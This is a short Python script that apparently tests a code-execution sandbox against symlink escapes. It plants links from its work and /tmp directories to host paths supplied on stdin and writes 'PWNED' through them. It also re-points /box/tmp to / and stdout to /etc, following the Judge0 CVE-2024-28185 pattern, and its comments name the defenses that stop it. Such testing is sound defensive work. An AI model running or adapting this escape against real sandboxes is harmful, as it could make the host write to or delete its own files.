# Symlink escapes: plants symlinks in the work directory and /tmp pointing at host paths (given on stdin), then
# writes through them, and replaces its own /tmp directory with a link to /. The first part tries to reach host
# files from inside; the second is the Judge0 CVE-2024-28185 pattern: if the host later writes into or cleans up
# the run's directory following those links, the sandbox has made the host write or delete for it.
# Stopped by: host paths not existing inside the mount namespace; the host never writing into or traversing a box
# after sandboxed code ran in it (boxes are only bound whole and lazily unmounted).
import os, sys

targets = sys.stdin.read().split()
for i, target in enumerate(targets):
    for where in ("/box/work", "/tmp"):
        link = f"{where}/link{i}"
        try:
            os.symlink(target, link)
            with open(link, "a") as f:
                f.write("PWNED")
            print("WROTE", target)
        except OSError as e:
            print("failed", target, type(e).__name__)
try:
    os.rename("/box/tmp", "/box/oldtmp")
    os.symlink("/", "/box/tmp")
    os.symlink("/etc", "/box/work/stdout")
    print("relinked /tmp")
except OSError as e:
    print("relink failed", type(e).__name__)
